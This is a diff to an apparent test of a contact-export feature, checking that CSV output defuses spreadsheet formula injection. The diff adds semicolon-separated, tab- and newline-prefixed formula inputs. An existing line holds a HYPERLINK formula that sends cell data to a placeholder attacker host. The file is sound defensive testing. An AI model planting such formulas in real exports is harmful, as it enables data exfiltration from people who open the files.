@@ -197,6 +197,12 @@ test("what a spreadsheet would run is written so that it does not, in the export
     "\t=1",
     "\r=1",
     '=HYPERLINK("https://evil.example?"&A1)',
+    // Cells of another locale, which ends them at semicolons, and of a reader that knows no quotes.
+    "Sales;=1+1",
+    'Sales;"=1+1',
+    "Sales; +1",
+    "Sales\n=1+1",
+    "Sales\t@SUM(1)",
   ];
   for (const [i, formula] of formulas.entries()) {
     const made = await own.api("POST", "/contacts", {
@@ -218,6 +224,11 @@ test("what a spreadsheet would run is written so that it does not, in the export
     expect(cells.filter((c) => /^'[=+\-@\t\r]/.test(c)).length, path).toBeGreaterThan(formulas.length);
     expect(
       cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+      path,
+    ).toEqual([]);
+    const anywhere = body.split(/[,;|\t\r\n]/).map((c: string) => c.replace(/^[ "]+/, ""));
+    expect(
+      anywhere.filter((c: string) => /^[=+\-@]/.test(c)),
       path,
     ).toEqual([]);
   }
